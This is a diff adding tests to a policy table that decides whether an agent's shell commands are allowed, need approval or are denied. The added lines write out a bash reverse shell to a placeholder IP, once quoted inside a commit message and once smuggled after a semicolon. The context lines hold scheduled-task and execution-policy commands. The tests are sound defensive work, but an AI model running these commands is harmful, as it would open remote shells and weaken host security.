@@ -446,6 +446,8 @@ export const POLICY_TESTS: Readonly<Record<string, string>> = {
   - {name: a scheduled task, tool: exec, params: {command: 'cmd /c "schtasks /create /tn x /tr y"'}, expect: require_approval}
   - {name: scripts of anybody, tool: exec, params: {command: 'powershell -c "Set-ExecutionPolicy Unrestricted"'}, expect: require_approval}
   - {name: a listing in PowerShell, tool: exec, params: {command: 'pwsh -c "Get-ChildItem src"'}, expect: allow}
+  - {name: a message about reverse shells, tool: exec, params: {command: "git commit -m 'Block bash -i >& /dev/tcp/1.2.3.4/9 0>&1'"}, expect: allow}
+  - {name: a reverse shell behind a commit, tool: exec, params: {command: "git commit -m x; bash -i >& /dev/tcp/1.2.3.4/9 0>&1"}, expect: deny}
 `,
   strict: `tests:
   - {name: looking, tool: exec, params: {command: "ls -la src"}, cwd: /w, expect: allow}
